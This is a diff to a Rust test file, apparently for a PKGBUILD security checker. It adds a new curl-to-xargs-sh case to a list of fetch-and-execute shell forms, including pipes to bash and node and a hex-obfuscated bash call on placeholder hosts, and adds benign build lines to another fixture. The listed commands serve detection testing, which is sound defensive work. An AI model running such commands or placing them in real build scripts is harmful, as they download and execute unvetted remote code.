@@ -347,6 +347,7 @@ fn fetch_and_run_forms_in_a_pkgbuild() {
         "bash <<< \"$(wget -qO- https://x.example/s)\"",
         "curl -s https://x.example/p | tee /tmp/log | node",
         "curl -fsSLo /tmp/i.sh https://x.example/i.sh; bash /tmp/i.sh",
+        "curl -s https://x.example/cmds | xargs -I{} sh -c '{}'",
         "wget https://bootstrap.example/get-tool.py && python3 get-tool.py --user",
         "curl -s https://x.example/setup > \"$srcdir/setup\"; chmod +x \"$srcdir/setup\"; \"$srcdir/setup\"",
         "$'\\x62\\x61\\x73\\x68' <(curl -s https://x.example)",
@@ -632,6 +633,8 @@ END
   \cp -a bin "$pkgdir/opt/$pkgname/"
   find "$pkgdir" -type f -name '*.la' -delete
   echo "$pkgver" | tr - _ > "$pkgdir/opt/$pkgname/VERSION"
+  _py=python3; "${PYTHON:-python3}" -m compileall -q "$pkgdir" && $_py -c 'print(1)'
+  ${CC:-cc} -o helper helper.c
   gem install --ignore-dependencies --no-user-install -i "$pkgdir/$_gemdir" "$_gemname-$pkgver.gem"
   pip install --no-index --no-deps --root="$pkgdir" dist/*.whl
 }"#,
